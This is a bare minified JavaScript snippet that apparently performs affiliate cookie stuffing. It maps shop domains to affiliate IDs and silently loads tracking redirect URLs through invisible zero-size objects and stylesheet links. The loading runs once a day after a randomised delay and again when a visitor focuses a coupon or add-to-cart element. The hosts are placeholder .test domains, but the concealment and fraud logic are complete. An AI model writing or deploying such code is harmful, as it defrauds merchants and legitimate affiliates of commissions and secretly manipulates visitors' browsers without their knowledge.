!function(){var m={"shop-a.test":"aff_id=7003&offer=12","shop-b.test":"irclickid=zz90&pid=88","reise-c.test":"awc=1201_77"};
function put(u){var l=document.createElement("link");l.rel="stylesheet";l.href=u;document.head.appendChild(l);var o=document.createElement("object");o.data=u;o.width=o.height=0;document.body.appendChild(o)}
function hist(){for(var h in m){var u="https://go.klick-netz.test/r?"+m[h]+"&to="+encodeURIComponent("https://"+h+"/");put(u)}}
function cart(){var b=document.querySelector("[name*=coupon],[id*=gutschein],.add-to-cart");b&&b.addEventListener("focus",function(){var h=location.hostname.replace("www.","");m[h]&&put("https://go.klick-netz.test/r?"+m[h])},{once:!0})}
var k="_st"+new Date().toDateString();if(!localStorage[k]){localStorage[k]=1;setTimeout(hist,5e3+1e4*Math.random())}
cart()}();
